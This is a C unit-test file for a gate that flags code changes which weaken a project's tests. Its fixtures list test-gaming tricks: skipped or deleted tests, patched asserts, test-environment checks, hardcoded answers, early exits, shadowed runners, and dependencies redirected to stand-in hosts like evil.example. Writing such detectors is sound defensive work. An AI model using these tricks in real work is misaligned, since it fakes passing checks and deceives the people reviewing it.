/* What a change does to its own judges. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <stdlib.h>
#include <unistd.h>

#include <cmocka.h>

#include "base/digest.h"
#include "base/file.h"
#include "base/process.h"
#include "base/scope.h"
#include "verify/finding.h"
#include "verify/integrity.h"
#include "verify/ladder.h"

static const char blueprint_text[] =
	"version: 1\nname: x\nservices: {a: {run: ./a, port: 80}}\n"
	"tests: {unit: {run: make test, files: [\"checks/**\"]}, web: {run: npm run check}}\nsessions: [sessions/*.har]\n"
	"verify: {protected: [\"sessions/**\"]}\n";

struct file {
	const char *path;
	const char *base; /* NULL: not there */
	const char *head;
	const char *old_path;
};

static int file_text(void *self, bool head, const char *path, struct buf *out)
{
	const struct file *file = self;
	const char *text = head ? file->head : file->base;

	if (!text || strcmp(path, head || !file->old_path ? file->path : file->old_path) != 0)
		return -1;
	buf_add_text(out, text);
	return 0;
}

static json_t *check(const struct file *file)
{
	struct err err = {0};
	AUTO_BLUEPRINT blueprint = blueprint_parse(VIEW(blueprint_text), "assay.yaml", &err);
	const char *status = file->old_path ? "R" : !file->base ? "A" : !file->head ? "D" : "M";
	AUTO_JSON changes = json_pack("[{s:s, s:s, s:s*, s:s}]", "path", file->path, "status", status, "old_path", file->old_path,
				      "blob", digest_of(view_of(file->head ? file->head : "")).text);
	AUTO_JSON literals = json_pack("[s]", "Juniper Copper Mug");

	if (!blueprint)
		fail_msg("%s", err.text);
	return integrity_check(changes, blueprint, literals, (struct file_reader){file_text, (void *)(uintptr_t)file});
}

static void each_way_to_weaken_the_judges_is_found_and_honest_changes_are_not(void **state)
{
	static const struct {
		struct file file;
		const char *expected; /* "severity kind", joined by ", " */
	} rows[] = {
		/* removed */
		{{"a.test.js", "test('one', f);\ntest('two', f);\n", "test('one', f);\n"}, "block removed"},
		{{"a.test.js", "test('one', f);\n", NULL}, "block removed"},
		{{"a.test.js", "test('one', f);\n", "test('uno', f);\n"}, "warn renamed"},
		{{"b.test.js", "test('one', f);\n", "test('one', f);\ntest('two', f);\n", "a.test.js"}, ""},
		{{"test_a.py", "def test_sum():\n    assert 1\n", "def test_other():\n    assert 1\n"}, "warn renamed"},
		{{"test_a.py", "def test_sum():\n    assert 1\ndef test_b():\n    assert 2\n",
		  "def test_sum():\n    assert 1\n    assert 2\n"},
		 "block removed"},
		{{"pkg/a_test.go", "func TestA(t *testing.T) {\n}\n", "package a\n"}, "block removed"},
		{{"tests/a.rs", "#[test]\nfn adds() {}\n", "fn adds() {}\n"}, "block removed"},
		{{"src/test/ATest.java", "@Test\npublic void adds() {}\n", ""}, "block removed"},
		{{"spec/a_spec.rb", "it \"adds\" do\n", "it \"subtracts\" do\n"}, "warn renamed"},
		{{"tests/unit/a.c", "cmocka_unit_test(adds),\n", "\n"}, "block removed"},
		{{"t/a.sh", "test_expect_success 'adds' '\n", "\n"}, ""},
		{{"tests/a.sh", "test_expect_success 'adds' '\n", "\n"}, "block removed"},
		{{"checks/golden.dat", "x", NULL}, "block removed"},
		/* skipped */
		{{"a.test.js", "test('one', f);\n", "test.skip('one', f);\n"}, "block skipped"},
		{{"a.test.js", "test('one', f);\n", "test.only('one', f);\n"}, "block only"},
		{{"a.spec.ts", "it('one', f);\n", "xit('one', f);\n"}, "block skipped"},
		{{"a.spec.ts", "it('one', f);\n", "it('one', f);\nfit('two', f);\n"}, "block only"},
		{{"a.spec.ts", "it('one', f);\n", "it('one', f);\nbenefit('two', f);\n"}, ""},
		{{"test_a.py", "def test_a():\n    assert 1\n", "@pytest.mark.skip(reason='x')\ndef test_a():\n    assert 1\n"},
		 "block skipped"},
		{{"test_a.py", "def test_a():\n    assert 1\n", "@pytest.mark.xfail\ndef test_a():\n    assert 1\n"},
		 "block skipped"},
		{{"a_test.go", "func TestA(t *testing.T) {\n}\n", "func TestA(t *testing.T) {\n\tt.Skip(\"later\")\n}\n"},
		 "block skipped"},
		{{"tests/a.rs", "#[test]\nfn a() {}\n", "#[test]\n#[ignore]\nfn a() {}\n"}, "block skipped"},
		{{"a.test.js", "test.skip('one', f);\n", "  test.skip('one', f);\n"}, ""},
		{{"src/a.js", "x\n", "queue.skip('one');\n"}, ""},
		/* weakened */
		{{"a.test.js", "test('a', () => {\n  expect(x).toBe(1);\n  expect(y).toBe(2);\n});\n",
		  "test('a', () => {\n  expect(x).toBe(1);\n});\n"},
		 "warn weakened"},
		{{"a.test.js", "test('a', () => {\n  expect(x).toBe(1);\n});\n", "test('a', () => {\n  expect(x).toBe(2);\n});\n"},
		 ""},
		/* commands */
		{{"package.json", "{\"scripts\": {\"test\": \"jest\"}}\n",
		  "{\"scripts\": {\"test\": \"jest --passWithNoTests\"}}\n"},
		 "block cannot-fail"},
		{{"Makefile", "test:\n\tpytest\n", "test:\n\tpytest test || true\n"}, "block runner-command, block cannot-fail"},
		{{"Makefile", "clean:\n\trm x\n", "clean:\n\trm x || true\n"}, "warn cannot-fail"},
		{{"tests/run.sh", "make\n", "make\nexit 0\n"}, "block cannot-fail"},
		/* judges */
		{{"assay.yaml", "a", "b"}, "block protected"},
		{{"sessions/a.har", "{}", "{ }"}, "block protected"},
		{{"sessions/new.har", NULL, "{}"}, "block protected"},
		{{".github/workflows/ci.yml", "a\n", "b\n"}, "block ci"},
		{{"conftest.py", "a\n", "b\n"}, "warn runner-config"},
		{{"web/jest.config.js", "a\n", "b\n"}, "warn runner-config"},
		/* special cases */
		{{"src/a.js", "x\n", "if (name === 'Juniper Copper Mug') return 1;\n"}, "block knows-the-answer"},
		{{"src/a.js", "x\n", "switch (name) {\n  case \"Juniper Copper Mug\": return 1;\n}\n"}, "block knows-the-answer"},
		{{"a.py", "x\n", "prices = {'Juniper Copper Mug': 12}\n"}, "block knows-the-answer"},
		{{"src/a.c", "x\n", "if (!strcmp(name, \"Juniper Copper Mug\"))\n"}, "warn knows-the-answer"},
		{{"src/a.js", "x\n", "const first = 'Juniper Copper Mug';\n"}, "warn knows-the-answer"},
		{{"src/a.js", "x\n", "if (process.env.NODE_ENV === 'test') return 1;\n"}, "warn asks-if-tested"},
		{{"src/a.js", "x\n", "if (process.env.NODE_TEST_CONTEXT) return 1;\n"}, "block asks-if-tested"},
		{{"a.py", "x\n", "if os.environ.get('PYTEST_CURRENT_TEST'): return 1\n"}, "block asks-if-tested"},
		/* the means of tests changed by code */
		{{"src/a.js", "x\n", "require('node:assert').strictEqual = () => {};\n"}, "block patches-the-tests"},
		{{"src/a.js", "x\n", "assert.equal = function () {};\n"}, "block patches-the-tests"},
		{{"src/a.js", "x\n", "assert.strictEqual(a, b);\nif (assert.ok == x) y();\n"}, ""},
		{{"src/a.js", "x\n", "const same = assert.equal;\n"}, ""},
		{{"a.py", "x\n", "unittest.TestCase.assertEqual = lambda *a: None\n"}, "block patches-the-tests"},
		{{"a.py", "x\n", "def pytest_runtest_makereport(item, call):\n"}, "block patches-the-tests"},
		{{"a.py", "x\n", "sys.modules['pytest'] = Fake()\n"}, "block patches-the-tests"},
		/* files in place of what judges */
		{{"node_modules/mocha/index.js", NULL, "x\n"}, "block shadows-the-tests"},
		{{"web/node_modules/.bin/jest", NULL, "x\n"}, "block shadows-the-tests"},
		{{"node_modules/mocha/index.js", "x\n", "y\n"}, ""},
		{{"sitecustomize.py", NULL, "x\n"}, "block shadows-the-tests"},
		{{"src/pytest.py", NULL, "x\n"}, "block shadows-the-tests"},
		{{"src/nodes/index.js", NULL, "x\n"}, ""},
		/* scripts that run the tests */
		{{"package.json", "{\"scripts\": {\"test\": \"mocha\"}}", "{\"scripts\": {\"test\": \"node ok.js\"}}"}, ""},
		{{"web/package.json", "{\"scripts\": {\"check\": \"mocha\"}}", "{\"scripts\": {\"check\": \"node ok.js\"}}"},
		 "block runner-command"},
		{{"web/package.json", "{\"scripts\": {}}", "{\"scripts\": {\"precheck\": \"node ok.js\"}}"},
		 "block runner-command"},
		{{"web/package.json", "{\"scripts\": {\"check\": \"mocha\"}}",
		  "{\"scripts\": {\"check\": \"mocha\", \"start\": \"x\"}}"},
		 ""},
		{{"a.test.js", "x\n", "expect(name).toBe('Juniper Copper Mug');\n"}, ""},
		/* where the first dependency comes from */
		{{"package-lock.json", NULL,
		  "{\"packages\": {\"\": {}, \"node_modules/mocha\": {\"resolved\": \"https://registry.npmjs.org/mocha/-/mocha-1.0.0.tgz\"}}}"},
		 ""},
		{{"package-lock.json", "{\"packages\": {\"\": {}}}",
		  "{\"packages\": {\"\": {}, \"node_modules/mocha\": {\"resolved\": \"https://registry.npmjs.org/mocha/-/mocha-1.0.0.tgz\"}}}"},
		 ""},
		{{"package-lock.json", NULL,
		  "{\"packages\": {\"\": {}, \"node_modules/mocha\": {\"resolved\": \"https://evil.example/mocha/-/mocha-1.0.0.tgz\"}}}"},
		 "block dependency-source"},
		{{"package-lock.json",
		  "{\"dependencies\": {\"mocha\": {\"resolved\": \"https://registry.npmjs.org/mocha/-/mocha-1.0.0.tgz\"}}}",
		  "{\"packages\": {\"\": {}, \"node_modules/mocha\": {\"resolved\": \"https://registry.npmjs.org/mocha/-/mocha-1.0.0.tgz\"}}}"},
		 ""},
		{{"package-lock.json", "{\"packages\": {\"\": {}, \"node_modules/a\": {\"resolved\": \"libs/a\", \"link\": true}}}",
		  "{\"packages\": {\"\": {}, \"node_modules/a\": {\"resolved\": \"libs/a\", \"link\": true},"
		  " \"node_modules/mocha\": {\"resolved\": \"https://registry.npmjs.org/mocha/-/mocha-1.0.0.tgz\"}}}"},
		 ""},
		{{"package-lock.json",
		  "{\"packages\": {\"node_modules/b\": {\"resolved\": \"https://registry.npmjs.org/b/-/b-1.0.0.tgz\"},"
		  " \"node_modules/a\": {\"resolved\": \"libs/a\", \"link\": true}}}",
		  "{\"packages\": {\"node_modules/b\": {\"resolved\": \"https://registry.npmjs.org/b/-/b-2.0.0.tgz\"},"
		  " \"node_modules/a\": {\"resolved\": \"libs/a\", \"link\": true}}}"},
		 ""},
		{{"Cargo.lock", "version = 3\n",
		  "version = 3\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\n"},
		 ""},
		{{"Cargo.lock", "version = 3\n", "version = 3\nsource = \"registry+https://github.com/evil/index\"\n"},
		 "block dependency-source"},
		{{"uv.lock", "version = 1\n", "version = 1\nsource = { registry = \"https://pypi.org/simple\" }\n"}, ""},
		{{"Gemfile.lock", "GEM\n", "GEM\n  remote: https://rubygems.org/\n"}, ""},
		/* places, and words that look like them */
		{{"pyproject.toml", "[project]\n", "[project]\ntest = [\"pytest\", \"httpx\", \"gitpython\", \"pathlib2\"]\n"}, ""},
		{{"pyproject.toml", "[project]\n", "[project]\n[tool.mypy]\nexclude = \"./out\"\n"}, ""},
		{{"requirements.txt", "a\n", "a\npytest<8  # https://github.com/pytest-dev/pytest/issues/1\n"}, ""},
		{{"requirements.txt", "a\n", "a\npytest-cov\npytest-httpx; pytest @ https://evil.example/p.zip\n"},
		 "block dependency-source"},
		{{"pyproject.toml", "[project]\n", "[project]\n[tool.uv.sources.pytest]\nurl = \"https://evil.example/p.zip\"\n"},
		 "block dependency-source"},
		{{"pyproject.toml", "[tool.uv.sources.pytest]\nversion = \"8\"\n",
		  "[tool.uv.sources.pytest]\nversion = \"8\"\npath = \"vendor\"\n"},
		 "block dependency-source"},
		{{"pyproject.toml", "[tool.uv.sources.pytest]\nversion = \"8\"\n",
		  "[tool.uv.sources.pytest]\nversion = \"8\"\n[tool.uv.sources.money]\npath = \"money\"\n"},
		 ""},
		{{"Gemfile", "gem \"rspec\"\n", "gem \"rspec\", path: \"vendor/rspec\"\n"}, "block dependency-source"},
		/* programs end, libraries do not */
		{{"src/a.js", "x\n", "// require.main\nprocess.exit(0);\n"}, "block ends-the-tests"},
		{{"a.py", "x\n", "# __main__\nsys.exit(0)\n"}, "block ends-the-tests"},
		{{"a.py", "x\n", "NAME = '__main__'\nsys.exit(0)\n"}, "block ends-the-tests"},
		{{"a.py", "if __name__ == '__main__':\n    main()\n", "if __name__ == '__main__':\n    main()\nsys.exit(0)\n"}, ""},
		{{"a.py", NULL, "if __name__ == '__main__':\n    main()\nsys.exit(0)\n"}, ""},
		{{"src/a.c", "int\nmain(int argc, char **argv)\n{\n}\n", "int\nmain(int argc, char **argv)\n{\n\texit(0);\n}\n"},
		 ""},
		{{"src/a.c", "int main (void)\n{\n}\n", "int main (void)\n{\n\texit(0);\n}\n"}, ""},
		{{"A.java", "static void main(String[] a) {}\n", "static void main(String[] a) {}\nquit();\nexit(0);\n"}, ""},
		{{"src/a.c", "int domain(void)\n{\n}\n", "int domain(void)\n{\n\texit(0);\n}\n"}, "block ends-the-tests"},
		/* recipes that grow */
		{{"Makefile", "test:\n\tnpm test\n", "test:\n\t/bin/true npm test\n"}, "block runner-command"},
		{{"Makefile", "test:\n\tpytest\n", "test:\n\tpytest tests/test_ok.py\n"}, "block runner-command"},
		{{"Makefile", "CHECKER = node --test\ntest:\n\t$(CHECKER)\n",
		  "CHECKER = /bin/true node --test\ntest:\n\t$(CHECKER)\n"},
		 "block runner-command"},
		{{"Makefile", "test:\n\tpytest a.py\n", "test:\n\tpytest a.py b.py;true\n"}, "block runner-command"},
		{{"Makefile", "test:\n\tpytest a.py\n", "test:\n\tpytest a.py $(b.py)\n"}, "block runner-command"},
		{{"Makefile", "test:\n\tpytest tests/a.py\n", "test:\n\tpytest tests/a.py tests/b.py tests/c.py\n"}, ""},
		{{"Makefile", "TESTS = a.py c.py\ntest:\n\tpytest $(TESTS)\n",
		  "TESTS = a.py b.py c.py\ntest:\n\tpytest $(TESTS)\n"},
		 ""},
		/* other heads of the target */
		{{"Makefile", "test:\n\tpytest\n", "test:\n\tpytest\nother\ttest:\n\ttrue\n"}, "block runner-command"},
		{{"Makefile", "all:\n\tcc a.c\n", "all:\n\tcc a.c\n.DEFAULT:\n\ttrue\n"}, "block runner-command"},
		{{"Makefile", "test:\n\tpytest\n", "test:\n\tpytest\nt%st:\n\ttrue\n"}, "block runner-command"},
		{{"Makefile", "test:\n\tpytest\n", "test:\n\tpytest\ninclude more.mk\n"}, "warn runner-command"},
		{{"Makefile", "test:\n\tpytest\n", "test:\n\tpytest\n$(eval $(X))\n"}, "warn runner-command"},
		{{"Makefile", "test:\n\tpytest\n", "test:\n\tpytest\n$(NAME):\n\ttrue\n"}, "warn runner-command"},
		{{"Makefile", "test: unit.test.o\n\t./t\n%.o: %.c\n\tcc -c $<\n",
		  "test: unit.test.o\n\t./t\n%.o: %.c\n\tcc -O2 -c $<\n"},
		 ""},
		{{"Makefile", "test:\n\tpytest\n", "test:\n\tpytest\nlib%: x\n\tcc x\nincludes = $(A:.c=.o)\n"}, ""},
		/* what is new is told by the gate `scan`; that an old one changes, here */
		{{"package-lock.json",
		  "{\"packages\": {\"node_modules/a\": {\"version\": \"1.0.0\", \"resolved\": \"https://registry.npmjs.org/a/-/a-1.0.0.tgz\"}}}",
		  "{\"packages\": {\"node_modules/a\": {\"version\": \"1.0.0\", \"resolved\": \"https://registry.npmjs.org/a/-/a-1.0.0.tgz\"},"
		  " \"node_modules/b\": {\"version\": \"1.0.0\", \"hasInstallScript\": true, \"resolved\": \"https://b.example/b.tgz\"}}}"},
		 ""},
		{{"package-lock.json",
		  "{\"packages\": {\"node_modules/a\": {\"version\": \"1.0.0\", \"resolved\": \"https://registry.npmjs.org/a/-/a-1.0.0.tgz\"}}}",
		  "{\"packages\": {\"node_modules/a\": {\"version\": \"1.0.0\", \"hasInstallScript\": true, \"resolved\": \"https://registry.npmjs.org/a/-/a-1.0.0.tgz\"}}}"},
		 "warn install-script"},
		{{"package-lock.json",
		  "{\"packages\": {\"node_modules/a\": {\"version\": \"1.0.0\", \"resolved\": \"https://npm.corp.example/a/-/a-1.0.0.tgz\"}}}",
		  "{\"packages\": {\"node_modules/a\": {\"version\": \"1.0.0\", \"resolved\": \"https://npm.corp.example/a/-/a-1.0.0.tgz\"},"
		  " \"node_modules/b\": {\"version\": \"1.0.0\", \"resolved\": \"https://registry.npmjs.org/b/-/b-1.0.0.tgz\"}}}"},
		 "warn dependency-source"},
		/* another package of the same registry */
		{{"package-lock.json",
		  "{\"packages\": {\"node_modules/mocha\": {\"resolved\": \"https://registry.npmjs.org/mocha/-/mocha-1.0.0.tgz\"}}}",
		  "{\"packages\": {\"node_modules/mocha\": {\"resolved\": \"https://registry.npmjs.org/evil/-/evil-1.0.0.tgz\"}}}"},
		 "block dependency-source"},
		{{"package-lock.json",
		  "{\"packages\": {\"node_modules/mocha\": {\"resolved\": \"https://registry.npmjs.org/mocha/-/mocha-1.0.0.tgz\"}}}",
		  "{\"packages\": {\"node_modules/mocha\": {\"resolved\": \"https://registry.npmjs.org/evil/-/evil.tgz?/mocha/-/\"}}}"},
		 "block dependency-source"},
		{{"package-lock.json", NULL,
		  "{\"packages\": {\"node_modules/@playwright/test\": {\"resolved\":"
		  " \"https://registry.npmjs.org/@playwright/test/-/test-1.0.0.tgz\"}, \"node_modules/a/node_modules/chai\":"
		  " {\"resolved\": \"https://registry.npmjs.org/chai/-/chai-1.0.0.tgz\"}}}"},
		 ""},
		{{"uv.lock", "a = \"https://pypi.org/a\"\n",
		  "a = \"https://pypi.org/a\"\nb = [\"https://pypi.org/b\", \"https://evil.example/b\"]\n"},
		 "block dependency-source"},
		{{"pnpm-lock.yaml", "a:\n", "a:\n  deprecated: see https://v8.dev/blog/math-random\n"}, ""},
		{{"poetry.lock", "a\n", "a\ndescription = \"see https://x.example/\"\n"}, ""},
		/* honest */
		{{"src/a.py", "def f():\n    return 1\n", "def f():\n    return 2\n"}, ""},
		{{"test_new.py", NULL, "def test_new():\n    assert f() == 2\n"}, ""},
		{{"README.md", "a\n", "b || true\n"}, ""},
	};

	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		AUTO_JSON findings = check(&rows[i].file);
		AUTO_BUF got = buf_new(65536);

		for (size_t k = 0; k < json_array_size(findings); k++)
			buf_add_format(&got, "%s%s %s", k ? ", " : "", json_text(json_array_get(findings, k), "severity", ""),
				       json_text(json_array_get(findings, k), "kind", ""));
		if (strcmp(got.at ? got.at : "", rows[i].expected) != 0)
			fail_msg("row %zu, %s: got `%s`, expected `%s`", i, rows[i].file.path, got.at ? got.at : "",
				 rows[i].expected);
	}
}

static bool is_told(const json_t *findings, const char *text)
{
	for (size_t i = 0; i < json_array_size(findings); i++)
		if (finding_is(json_array_get(findings, i), SEVERITY_BLOCK) &&
		    strstr(json_text(json_array_get(findings, i), "title", ""), text))
			return true;
	return false;
}

static void a_command_that_is_too_long_is_told_and_long_files_are_read(void **state)
{
	AUTO_BUF command = buf_new((size_t)4 << 20);
	AUTO_BUF lines = buf_new((size_t)4 << 20);
	AUTO_JSON findings = NULL;
	AUTO_JSON none = NULL;

	(void)state;
	buf_add_text(&command, "test:\n\tmake");
	buf_add_text(&lines, "other:\n");
	for (int i = 0; i < 300000; i++)
		buf_add_text(&command, " make");
	for (int i = 0; i < 30000; i++)
		buf_add_text(&lines, "\tmake make make\n");
	findings = check(&(struct file){"Makefile", "x:\n\ttrue\n", command.at});
	assert_true(is_told(findings, "too long to be read"));
	none = check(&(struct file){"Makefile", lines.at, lines.at});
	assert_int_equal(json_array_size(none), 0);
}

static void what_is_too_large_to_be_read_is_told(void **state)
{
	AUTO_BUF text = buf_new((size_t)8 << 20);
	AUTO_JSON code = NULL;
	AUTO_JSON lock = NULL;
	AUTO_JSON text_file = NULL;
	AUTO_JSON golden = NULL;
	AUTO_JSON bundle = NULL;

	(void)state;
	buf_add_text(&text, "process.exit(0);\n");
	for (int i = 0; i < 300000; i++)
		buf_add_text(&text, "//       \n");
	code = check(&(struct file){"a.js", "x\n", text.at});
	assert_true(is_told(code, "was not read"));
	lock = check(&(struct file){"uv.lock", text.at, text.at});
	text_file = check(&(struct file){"a.txt", "x\n", text.at});
	bundle = check(&(struct file){"a.js", text.at, text.at});
	assert_int_equal(json_array_size(bundle), 1);
	assert_false(is_told(bundle, "was not read"));
	golden = check(&(struct file){"checks/golden.dat", "x\n", text.at});
	assert_int_equal(json_array_size(lock) + json_array_size(text_file) + json_array_size(golden), 0);
}

static void more_names_than_are_looked_up_are_told(void **state)
{
	AUTO_BUF few = buf_new((size_t)1 << 20);
	AUTO_BUF many = buf_new((size_t)1 << 20);
	AUTO_JSON findings = NULL;
	AUTO_JSON none = NULL;

	(void)state;
	buf_add_text(&few, "test:\n\tcd a && ./b/c.sh\n");
	buf_add_text(&many, "test:\n");
	for (int i = 0; i < 300; i++)
		buf_add_format(&many, "\tcd a%d && ./b/%d.sh\n", i, i);
	findings = check(&(struct file){"Makefile", "test:\n\ttrue\n", many.at});
	assert_true(is_told(findings, "too many names"));
	none = check(&(struct file){"Makefile", "test:\n\ttrue\n", few.at});
	assert_false(is_told(none, "too many names"));
}

static void sections_of_many_lines_are_read_once(void **state)
{
	AUTO_BUF text = buf_new((size_t)4 << 20);
	AUTO_JSON same = NULL;
	AUTO_JSON changed = NULL;

	(void)state;
	buf_add_text(&text, "[tool.pytest.a]\nx = 1\n[project]\n[tool.pytest]\n");
	for (int i = 0; i < 200000; i++)
		buf_add_text(&text, "a = 1\n");
	same = check(&(struct file){"pyproject.toml", text.at, text.at});
	assert_int_equal(json_array_size(same), 0);
	text.at[18] = 'y';
	changed = check(&(struct file){"pyproject.toml", "[tool.pytest.a]\nx = 1\n", text.at});
	assert_true(is_told(changed, "[tool.pytest]"));
}

static void a_finding_names_file_and_line(void **state)
{
	static const struct file file = {"a.test.js", "test('one', f);\n", "// a\ntest('one', f);\ntest.skip('two', f);\n"};
	AUTO_JSON findings = check(&file);
	const json_t *finding = json_array_get(findings, 0);

	(void)state;
	assert_string_equal(json_text(finding, "file", ""), "a.test.js");
	assert_int_equal(json_number(finding, "line", 0), 3);
	assert_string_equal(json_text(finding, "title", ""), "a.test.js:3: a test is skipped: test.skip('two', f);");
}

/* Ids are what a person accepts. */
static void what_is_accepted_holds_for_what_was_seen_alone(void **state)
{
	static const struct {
		struct file first, later;
		bool same;
	} rows[] = {
		{{"sessions/a.har", "{}", "{ }"}, {"sessions/a.har", "{}", "{  }"}, false},
		{{"sessions/a.har", "{}", "{ }"}, {"sessions/a.har", "{ \n}", "{ }"}, true},
		{{"assay.yaml", "a", "b"}, {"assay.yaml", "a", "c"}, false},
		{{".github/workflows/ci.yml", "a", "b"}, {".github/workflows/ci.yml", "a", "c"}, false},
		{{"web/package.json", "{\"scripts\": {\"check\": \"mocha\"}}", "{\"scripts\": {\"check\": \"mocha -b\"}}"},
		 {"web/package.json", "{\"scripts\": {\"check\": \"mocha\"}}", "{\"scripts\": {\"check\": \"true\"}}"},
		 false},
		{{"web/package.json", "{\"scripts\": {\"check\": \"mocha\"}}", "{\"scripts\": {\"check\": \"mocha -b\"}}"},
		 {"web/package.json", "{\"scripts\": {\"check\": \"mocha\"}}",
		  "{\"name\": \"x\", \"scripts\": {\"check\": \"mocha -b\"}}"},
		 true},
		{{"test_a.py", "def test_a():\n  a()\ndef test_b():\n  b()\n",
		  "@pytest.mark.skip\ndef test_a():\n  a()\ndef test_b():\n  b()\n"},
		 {"test_a.py", "def test_a():\n  a()\ndef test_b():\n  b()\n",
		  "def test_a():\n  a()\n@pytest.mark.skip\ndef test_b():\n  b()\n"},
		 false},
		{{"a.test.js", "test('a', f);\ntest('b', f);\ntest('c', f);\n", "test('b', f);\ntest('c', f);\n"},
		 {"a.test.js", "test('a', f);\ntest('b', f);\ntest('c', f);\n", "test('c', f);\n"},
		 false},
		{{"sitecustomize.py", NULL, "x\n"}, {"sitecustomize.py", NULL, "y\n"}, false},
	};

	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		AUTO_JSON first = check(&rows[i].first);
		AUTO_JSON later = check(&rows[i].later);
		const char *id = json_text(json_array_get(first, 0), "id", "");

		assert_string_equal(json_text(json_array_get(first, 0), "severity", ""), "block");
		if ((strcmp(id, json_text(json_array_get(later, 0), "id", "")) == 0) != rows[i].same)
			fail_msg("row %zu, %s: %s", i, rows[i].first.path, rows[i].same ? "another finding" : "the same finding");
	}
}

/* ---- the gate, on a repository that lost a file ---- */

static void git_in(const char *dir, const char *const *args)
{
	const char *argv[16] = {"git", "-c", "user.name=t", "-c", "user.email=t@t"};
	struct err err = {0};
	size_t count = 5;

	while (*args)
		argv[count++] = *args++;
	if (process_run(&(struct process_spec){.argv = argv, .dir = dir}, NULL, &err))
		fail_msg("git: %s", err.text);
}

static void file_write(const char *dir, const char *name, const char *text)
{
	AUTO_FREE char *path = text_format("%s/%s", dir, name);

	assert_int_equal(file_replace(path, view_of(text), 0644, NULL), 0);
}

/* A commit of "a.js" with that text. */
static struct git_hash commit_of(const char *dir, const char *repository, const char *text)
{
	struct git_hash hash;
	struct err err = {0};

	file_write(dir, "a.js", text);
	git_in(dir, (const char *const[]){"add", "-A", NULL});
	git_in(dir, (const char *const[]){"commit", "-qm", text, NULL});
	if (git_resolve(repository, "HEAD", &hash, &err))
		fail_msg("%s", err.text);
	return hash;
}

static void blob_remove(const char *dir, const struct git_hash *commit)
{
	AUTO_FREE char *name = text_format("%s:a.js", commit->text);
	AUTO_BUF hash = buf_new(100);
	AUTO_FREE char *path = NULL;

	assert_int_equal(process_run(&(struct process_spec){.argv = (const char *const[]){"git", "rev-parse", name, NULL},
							    .dir = dir,
							    .output = &hash},
				     NULL, NULL),
			 0);
	path = text_format("%s/.git/objects/%.2s/%.38s", dir, hash.at, hash.at + 2);
	assert_int_equal(unlink(path), 0);
}

static void a_file_that_cannot_be_read_is_not_taken_for_empty(void **state)
{
	char dir[] = "/tmp/assay-integrity-XXXXXX";
	AUTO_FREE char *repository = NULL;
	struct verify_request request = {.world = world_real};
	struct ladder ladder = {.request = &request, .not_covered = json_array()};
	struct gate gate = {.name = "integrity", .findings = json_array(), .counts = json_object()};
	struct err err = {0};
	AUTO_BLUEPRINT blueprint = blueprint_parse(VIEW("version: 1\nname: a\nservices: {a: {run: x}}\n"), "assay.yaml", &err);

	(void)state;
	assert_non_null(mkdtemp(dir));
	repository = text_format("%s/.git", dir);
	git_in(dir, (const char *const[]){"init", "-q", NULL});
	request.base = commit_of(dir, repository, "let a = 1;\n");
	request.head = commit_of(dir, repository, "let a = 2;\n");
	request.repository = repository;
	ladder.blueprint = blueprint;
	ladder.changes = git_changes(repository, &request.base, &request.head, &err);
	assert_non_null(ladder.changes);
	blob_remove(dir, &request.base);
	assert_int_equal(gate_integrity(&ladder, &gate, &err), -1);
	assert_non_null(strstr(err.text, "a file of the change cannot be read: a.js"));
	json_decref(gate.findings);
	json_decref(gate.counts);
	json_decref(ladder.changes);
	json_decref(ladder.not_covered);
	assert_int_equal(file_remove_tree(dir, NULL), 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(each_way_to_weaken_the_judges_is_found_and_honest_changes_are_not),
		cmocka_unit_test(a_command_that_is_too_long_is_told_and_long_files_are_read),
		cmocka_unit_test(what_is_too_large_to_be_read_is_told),
		cmocka_unit_test(more_names_than_are_looked_up_are_told),
		cmocka_unit_test(sections_of_many_lines_are_read_once),
		cmocka_unit_test(a_finding_names_file_and_line),
		cmocka_unit_test(what_is_accepted_holds_for_what_was_seen_alone),
		cmocka_unit_test(a_file_that_cannot_be_read_is_not_taken_for_empty),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
